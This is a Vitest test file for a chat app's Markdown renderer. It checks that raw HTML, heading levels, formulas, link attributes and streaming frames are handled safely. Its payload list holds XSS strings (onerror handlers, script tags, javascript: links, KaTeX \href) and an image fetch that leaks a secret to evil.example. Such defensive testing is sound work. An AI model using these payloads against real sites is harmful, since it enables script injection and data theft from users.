import { NextIntlClientProvider } from 'next-intl'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, test } from 'vitest'
import en from '@/shared/i18n/en.json'
import { Markdown } from './markdown'

function html(text: string, streaming = false): string {
  return renderToStaticMarkup(
    <NextIntlClientProvider locale="en" messages={en} timeZone="UTC">
      <Markdown text={text} streaming={streaming} />
    </NextIntlClientProvider>,
  )
}

/** Every tag with its attributes; text is left out. */
function tags(markup: string): string {
  return (markup.match(/<[a-z][^>]*>/g) ?? []).join('\n')
}

describe('a hostile answer', () => {
  const attacks = [
    '![" onerror=alert(1) x="](https://evil.example/x.png)',
    '![a" onload="alert(1)](https://evil.example/x.png "t\\" onclick=\\"x")',
    '<img src=x onerror=alert(1)> and <script>alert(1)</script>',
    '<svg onload=alert(1)>\n\n<iframe src="https://evil.example"></iframe>',
    '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html,x) [d](vbscript:x)',
    '[e]\n\n[e]: javascript:alert(1)\n\n<javascript:alert(1)>',
    '![f]\n\n[f]: https://evil.example/?q=secret',
    '```html" onclick="x\n<b>\n```\n\n`<img onerror=x>`',
    '$$\\href{javascript:alert(1)}{x} \\includegraphics{https://evil.example/x.png}$$',
    '| <b onmouseover=x> |\n| - |\n| ![](https://evil.example/x.png) |',
  ]

  test.each(attacks)('runs and fetches nothing in any frame of %j', (attack) => {
    for (let length = 1; length <= attack.length; length += 1) {
      const markup = tags(html(attack.slice(0, length), length < attack.length))
      expect(markup).not.toMatch(/<[^>]*\son[a-z]+=/i)
      expect(markup).not.toMatch(/<(script|iframe|img|object|embed|link|form|style|base)\b/i)
      expect(markup).not.toMatch(/\s(src|srcset|poster|action|formaction|background)=/i)
      expect(markup).not.toMatch(/href="(?!https?:|mailto:|#)/i)
    }
  })

  test('that nests 50,000 braces is text, quickly', () => {
    const formula = `$$${'{'.repeat(50_000)}<b>x</b>$$`
    const start = performance.now()
    const markup = html(formula)
    expect(performance.now() - start).toBeLessThan(1_000)
    expect(markup).not.toContain('<b>')
    expect(markup).not.toContain('katex')
  })
})

test('raw HTML is shown as it was written', () => {
  expect(html('so <b>this</b> stays')).toContain('so &lt;b&gt;this&lt;/b&gt; stays')
})

test('links open elsewhere, tell nobody where from, and name their host', () => {
  const markup = html('[bank.example](https://evil.example/login)')
  expect(markup).toContain('target="_blank"')
  expect(markup).toContain('rel="noopener noreferrer nofollow"')
  expect(markup).toContain('evil.example</span>')
})

test('prices are text, formulas are formulas', () => {
  expect(html('from $5 to $10')).toContain('from $5 to $10')
  expect(html('so \\(a^2\\) is')).toContain('math-source')
  expect(html('\\[ a^2 \\]')).toContain('math-display')
})

test('an answer’s headings begin below the message’s', () => {
  expect(tags(html('## One\n\n### Two'))).toMatch(/<h3>\n<h4>/)
  expect(tags(html('#### Deep'))).toContain('<h3>')
})

test('the last streaming frame is the finished answer', () => {
  const text =
    '## Title\n\n- > 25\n- 20~25 < 30\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n```ts\nlet a = 1\n```\n'
  expect(html(text, true)).toBe(html(text, false))
})
